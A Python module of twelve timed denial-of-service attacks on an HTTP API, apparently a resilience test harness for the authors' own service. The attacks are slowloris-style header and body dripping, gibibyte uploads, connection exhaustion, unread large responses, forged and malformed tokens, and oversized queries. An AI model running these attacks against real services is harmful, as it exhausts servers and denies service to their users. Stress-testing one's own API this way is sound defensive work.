"""Attacks on an HTTP API: each goes on for a set time, or until it is refused."""

import asyncio
import base64
import contextlib
import time
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass
from urllib.parse import urlsplit

GIBIBYTE = 2**30
BLOCK = b"x" * 65536
CONNECTIONS = 600


@dataclass(frozen=True)
class Target:
    """A service, and a token of somebody who may read and write."""

    host: str
    port: int
    token: str
    largest: str = "/docs/swagger-ui-bundle.js"
    """Path of the largest thing that anybody may get."""

    @classmethod
    def of(cls, address: str, token: str, *, largest: str = largest) -> "Target":
        parts = urlsplit(address)
        assert parts.hostname is not None
        assert parts.port is not None
        return cls(parts.hostname, parts.port, token, largest)


type Attack = Callable[[Target, float], Awaitable[None]]
"""Given the target and the seconds it may take."""


async def post_a_gibibyte(target: Target, seconds: float) -> None:
    """With its length said, without a token: each time the connection is closed, again."""
    head = b"POST /v1/deliveries HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % GIBIBYTE
    await _send_on(target, seconds, head, BLOCK)


async def post_without_a_length(target: Target, seconds: float) -> None:
    """The same in chunks."""
    head = b"POST /v1/deliveries HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
    await _send_on(target, seconds, head, b"%x\r\n" % len(BLOCK) + BLOCK + b"\r\n")


async def post_chunks_with_a_token(target: Target, seconds: float) -> None:
    """By somebody who may."""
    token = target.token.encode()
    head = (
        b"POST /v1/probes HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer %s\r\nTransfer-Encoding: chunked\r\n\r\n" % token
    )
    await _send_on(target, seconds, head, b"%x\r\n" % len(BLOCK) + BLOCK + b"\r\n")


async def stay_silent(target: Target, seconds: float) -> None:
    """More connections than the API takes, silent."""
    async with contextlib.AsyncExitStack() as stack:
        for _ in range(CONNECTIONS):
            with contextlib.suppress(OSError):
                _, writer = await asyncio.open_connection(target.host, target.port)
                stack.callback(writer.close)
        await asyncio.sleep(seconds)


async def drip_heads(target: Target, seconds: float) -> None:
    """A hundred heads, letter by letter."""

    async def drip(until: float) -> None:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection(target.host, target.port)
            with contextlib.closing(writer):
                writer.write(b"GET / HTTP/1.1\r\nX: ")
                while time.monotonic() < until:
                    writer.write(b"a")
                    await writer.drain()
                    await asyncio.sleep(0.1)

    until = time.monotonic() + seconds
    await asyncio.gather(*(drip(until) for _ in range(100)))


async def drip_bodies(target: Target, seconds: float) -> None:
    """A hundred bodies without an end, in chunks of a byte, by somebody who may."""

    async def drip(number: int, until: float) -> None:
        # One after the other: a hundred requests of one moment are no slow bodies.
        await asyncio.sleep(number * seconds / 200)
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection(target.host, target.port)
            with contextlib.closing(writer):
                writer.write(
                    b"POST /v1/deliveries HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer %s\r\n"
                    b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n" % target.token.encode()
                )
                while time.monotonic() < until:
                    writer.write(b"1\r\n[\r\n")
                    await writer.drain()
                    await asyncio.sleep(0.02)

    until = time.monotonic() + seconds
    await asyncio.gather(*(drip(number, until) for number in range(100)))


async def send_endless_heads(target: Target, seconds: float) -> None:
    """Header lines without an end, and one line without an end."""
    for line in _alternately(seconds, (b"a: b\r\n" * 10_000, b"x" * 65536)):
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection(target.host, target.port)
            with contextlib.closing(writer):
                writer.write(b"GET /livez HTTP/1.1\r\nHost: a\r\nX: ")
                for _ in range(100):
                    writer.write(line)
                    await writer.drain()


async def read_nothing(target: Target, seconds: float) -> None:
    """Fifty times the largest thing that anybody may get, and nobody reads it."""
    async with contextlib.AsyncExitStack() as stack:
        for _ in range(50):
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(target.host, target.port, limit=1024)
                stack.callback(writer.close)
                writer.write(b"GET %s HTTP/1.1\r\nHost: a\r\n\r\n" % target.largest.encode() * 20)
                await reader.read(1)
        await asyncio.sleep(seconds)


async def forge_tokens(target: Target, seconds: float) -> None:
    """Heads that a parser chokes on, and good ones with a wrong signature."""
    deep = base64.urlsafe_b64encode(b"[" * 9000).rstrip(b"=")
    forged = target.token.encode()[:-8] + b"AAAAAAAA"
    for token in _alternately(seconds, (deep + b".e30.AA", forged)):
        await _send_get(target, b"/v1/deliveries", token)


async def ask_for_the_document(target: Target, seconds: float) -> None:
    """The largest answer that costs no token, compressed."""
    for accepted in _alternately(seconds, (b"gzip", b"identity")):
        await _send_get(target, b"/openapi.json", None, b"Accept-Encoding: %s\r\n" % accepted)


async def ask_with_a_long_query(target: Target, seconds: float) -> None:
    """Eight thousand parameters that nobody knows."""
    query = b"&".join(b"a%d=1" % number for number in range(7000))
    for path in _alternately(seconds, (b"/v1/workers?" + query, b"/v1/workers?sort=" + b"x," * 30_000)):
        await _send_get(target, path, target.token.encode())


async def ask_for_everything(target: Target, seconds: float) -> None:
    """The longest page, counted and sorted."""
    for path in _alternately(seconds, (b"/v1/deliveries?limit=1000&total=true", b"/metrics")):
        await _send_get(target, path, target.token.encode())


ATTACKS: dict[str, Attack] = {
    "1 GiB, length said": post_a_gibibyte,
    "1 GiB, in chunks": post_without_a_length,
    "1 GiB, with a token": post_chunks_with_a_token,
    "600 silent connections": stay_silent,
    "100 slow heads": drip_heads,
    "100 slow bodies": drip_bodies,
    "endless heads": send_endless_heads,
    "50 answers unread": read_nothing,
    "forged tokens": forge_tokens,
    "the document, over and over": ask_for_the_document,
    "long queries": ask_with_a_long_query,
    "longest pages": ask_for_everything,
}


def _alternately(seconds: float, things: tuple[bytes, ...]) -> Iterator[bytes]:
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        yield from things


async def _send_on(target: Target, seconds: float, head: bytes, block: bytes) -> None:
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection(target.host, target.port)
            with contextlib.closing(writer):
                writer.write(head)
                sent = 0
                while sent < GIBIBYTE and time.monotonic() < until:
                    writer.write(block)
                    await writer.drain()
                    sent += len(block)


async def _send_get(target: Target, path: bytes, token: bytes | None, more: bytes = b"") -> None:
    with contextlib.suppress(OSError):
        reader, writer = await asyncio.open_connection(target.host, target.port)
        with contextlib.closing(writer):
            known = b"" if token is None else b"Authorization: Bearer %s\r\n" % token
            writer.write(b"GET %s HTTP/1.1\r\nHost: a\r\nConnection: close\r\n%s%s\r\n" % (path, known, more))
            await reader.read()
